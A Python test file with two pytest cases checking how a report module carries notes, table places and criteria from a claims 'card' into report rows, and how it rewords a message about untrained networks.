def test_words_put_right_in_the_card_are_right_on_the_page(make_version, make_card):
    """Words follow the card as long as a claim means what it meant; with another criterion they are the run's own."""
    folder = make_version(make_card())
    results, run = (report.read_json(folder / name) for name in ("results.json", "run.json"))
    claims = [claim.model_dump() for claim in make_card().claims]
    for claim in claims:
        claim |= {"notes": "put right", "place": "Table 9"}
    claims[2]["criterion"]["bound"] = 0.9
    rows = {row.id: row for row in report.rule_rows(results, run, make_card(claims=claims))}
    assert rows["L1"].notes == "put right" and rows["L1"].place.endswith("Table 9")
    assert claims[2]["id"] == "L2a" and rows["L2a"].notes != "put right" and "Table 9" not in rows["L2a"].place
    assert rows["L1"].criterion == next(plain for plain in results["claims"] if plain["id"] == "L1")["criterion"]


def test_letters_that_only_the_card_explains_are_not_shown(make_version, make_card):
    missing = Samples.not_tested("this run trained no network for: a, b")
    folder = make_version(make_card(), samples={"L2a": missing})
    results, run = (report.read_json(folder / name) for name in ("results.json", "run.json"))
    row = next(row for row in report.rule_rows(results, run, make_card()) if row.id == "L2a")
    assert row.sentence == "This run trained no network for it."
    assert row.remarks == ("this run trained no network for it",)
    assert row.criterion.startswith("a - b ") and row.holds_if.startswith("difference ")
